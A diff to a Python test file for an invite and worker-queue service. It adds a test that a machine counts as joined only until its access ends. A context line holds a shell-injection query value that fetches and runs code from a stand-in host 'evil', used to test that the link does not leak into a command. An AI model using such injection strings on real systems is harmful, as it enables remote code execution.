@@ -152,6 +152,20 @@ def test_a_machine_has_joined_once_it_is_heard_of_on_the_queue(database: Databas
     assert [one.status for one in invites.list().items] == ["joined"]
 
 
+def test_an_invited_machine_serves_its_queue_from_when_it_has_joined_until_its_access_ends(database: Database) -> None:
+    invites, now = InviteService(database, lambda: BROKER, "https://home.example"), now_ms()
+    _, code = invites.create("mnist", 15, days=1)
+    invites.take_up(code, machine(code), from_here=False)
+    assert not invites.have_joined("mnist")
+    worker = WorkerInfo(secrets.token_hex(6), "mac", "cpu", ("mnist",), {}, 1, "h", 1, last_seen_ms=now)
+    with database.writing() as connection:
+        remember(connection, worker, now)
+    assert invites.have_joined("mnist") and not invites.have_joined("other")
+    with database.writing() as connection:
+        connection.execute(update(INVITE).values(access_ends_ms=now - 1))
+    assert not invites.have_joined("mnist")
+
+
 def test_what_stands_behind_the_link_is_not_in_the_command(client: TestClient) -> None:
     made = invite(client)
     page = client.get(f"{path_of(made)}?x=;curl${{IFS}}evil|sh", headers={"accept": "text/html"})
